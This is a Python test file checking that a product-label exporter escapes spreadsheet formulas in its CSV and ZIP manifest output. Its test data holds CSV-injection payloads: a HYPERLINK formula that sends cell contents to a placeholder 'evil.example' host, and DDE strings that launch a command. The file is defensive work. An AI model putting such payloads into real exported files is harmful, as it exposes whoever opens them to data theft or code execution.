"""A product name cannot become a spreadsheet formula in the label CSV or in a ZIP's manifest.csv."""

from __future__ import annotations

import csv
import io
import random
import zipfile

import pytest

from labels import LabelText, iter_csv, write_zip
from tests.labels.label_helpers import GTIN, make_url

HOSTILE = {
    "name_en": '=HYPERLINK("https://evil.example/steal?"&A1,"Click for warranty")',
    "name_bn": "+cmd|' /C calc'!A0",
    "batch": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def hostile_item() -> tuple[str, LabelText]:
    url = make_url(random.Random(7), serial="ABC123")
    return url, LabelText(gtin=GTIN, serial="ABC123", **HOSTILE)


def test_formula_cells_are_written_as_text_in_the_label_csv() -> None:
    url, _ = item = hostile_item()
    header, row = list(csv.reader(io.StringIO("".join(iter_csv(iter([item]))))))
    cells = dict(zip(header, row, strict=True))
    for column, value in HOSTILE.items():
        assert cells[column] == "'" + value, column
    assert (cells["url"], cells["gtin"], cells["serial"]) == (url, GTIN, "ABC123")  # ordinary cells unchanged


def test_formula_cells_are_written_as_text_in_a_zip_manifest() -> None:
    sink = io.BytesIO()
    write_zip(iter([hostile_item()]), sink, "svg")
    with zipfile.ZipFile(sink) as archive:
        (row,) = csv.DictReader(io.StringIO(archive.read("manifest.csv").decode("utf-8")))
    assert {column: row[column] for column in HOSTILE} == {k: "'" + v for k, v in HOSTILE.items()}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped(start: str) -> None:
    url, _ = hostile_item()
    item = (url, LabelText(gtin=GTIN, serial="ABC123", batch="B1", name_en=f"{start}1+1", name_bn="ল্যাপটপ"))
    _, row = list(csv.reader(io.StringIO("".join(iter_csv(iter([item]))))))
    assert row[4] == f"'{start}1+1"
    assert row[5] == "ল্যাপটপ"
